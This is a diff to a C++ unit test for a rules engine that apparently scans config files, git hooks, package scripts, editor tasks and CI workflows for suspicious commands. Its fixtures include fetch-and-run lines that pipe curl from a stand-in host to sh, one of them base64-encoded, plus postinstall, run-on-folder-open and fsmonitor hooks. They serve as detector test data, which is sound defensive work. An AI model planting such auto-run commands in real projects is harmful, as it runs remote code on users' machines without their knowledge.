@@ -190,6 +190,10 @@ TEST_F(RulesEngine, MatchesCarryTheRuleDescriptionAndTheirLines)
 rule counted { meta: severity = "warning" strings: $a = "MARK" condition: #a > 16 }
 rule in_config { meta: severity = "high" strings: $a = "a.b = MARK" condition: $a and view == "config" }
 rule by_name { meta: severity = "warning" condition: filename == "named.txt" }
+rule number_in_config { meta: severity = "high" strings: $a = "a.n = 7" condition: $a and view == "config" }
+rule in_commands { meta: severity = "high" strings: $a = "MARK" condition: $a and view == "commands" }
+private rule payload { strings: $a = /curl [^\n]*\| ?sh/ condition: $a }
+rule via_private { meta: severity = "high" condition: payload and view == "commands" }
 )");
     const std::string lines100 = [] {
         std::string s;
@@ -229,11 +233,47 @@ rule by_name { meta: severity = "warning" condition: filename == "named.txt" }
         {"many.txt", many, "counted", {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16}},
         {"many.txt", many, "described", {1}},
         {"utf16.txt", utf16, "described", {2}},
-        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "in_config", {}},
-        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "described", {}},
+        // Derived views: the line each leaf or command came from.
+        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "in_config", {1}},
+        {"c.json", R"({"a": {"b": "MA\u0052K"}})", "described", {1}},
+        {"c.json", "{\n \"x\": [],\n \"a\": {\n  \"b\": \"MA\\u0052K\"\n }\n}\n", "in_config", {4}},
+        // The reader looks past a number, here at the line end.
+        {"c.json", "{\n \"a\": {\n  \"n\": 7\n }\n}\n", "number_in_config", {3}},
+        {"c.yaml", "x: 1\na:\n  b: \"MA\\x52K\"\n", "in_config", {3}},
+        {"c.toml", "x = 1\n[a]\nb = \"MA\\u0052K\"\n", "in_config", {3}},
+        {"c.ini", "; c\n[a]\nb = MARK\n", "in_config", {3}},
+        {".git/hooks/pre-commit", "#!/bin/sh\ncurl http://x.example/MARK | sh\n", "in_commands", {2}},
+        {".git/hooks/pre-commit", "#!/bin/sh\ncurl http://x.example/MARK | sh\n", "via_private", {2}},
+        {".git/hooks/post-merge",
+         "#!/bin/sh\nset -e\ncurl -s \\\n  http://x.example/MARK \\\n  | sh\n",
+         "in_commands",
+         {3}},
+        // The decoded payload, listed under its command.
+        {".git/hooks/pre-push",
+         "#!/bin/sh\necho ok\necho Y3VybCBodHRwOi8veC5leGFtcGxlL01BUksgfCBzaA== | base64 -d | sh\n",
+         "in_commands",
+         {3}},
+        {"p/package.json",
+         "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"jest\",\n    \"postinstall\": \"curl "
+         "MARK\"\n  }\n}\n",
+         "in_commands",
+         {5}},
+        {"m/package.json", R"({"scripts":{"test":"jest","postinstall":"curl MARK"}})", "in_commands", {1}},
+        {".vscode/tasks.json",
+         "{\n \"version\": \"2.0.0\",\n \"tasks\": [\n  {\n   \"label\": \"x\",\n   \"command\": \"curl "
+         "MARK\",\n"
+         "   \"runOptions\": {\"runOn\": \"folderOpen\"}\n  }\n ]\n}\n",
+         "in_commands",
+         {6}},
+        {".github/workflows/ci.yml",
+         "on: push\njobs:\n  a:\n    steps:\n      - uses: x\n      - run: curl MARK\n",
+         "in_commands",
+         {6}},
+        {".git/config", "[core]\n\tbare = false\n\tfsmonitor = ./MARK.sh\n", "in_commands", {3}},
         {"named.txt", "x", "by_name", {}},
     };
     for (const auto& row : rows) {
+        std::filesystem::create_directories((m_tree / row.file).parent_path());
         writeFile(m_tree / row.file, row.content);
         const auto matches = evaluator->evaluate({(m_tree / row.file).string(), {"modified"}});
         const auto match = std::find_if(matches.begin(), matches.end(),
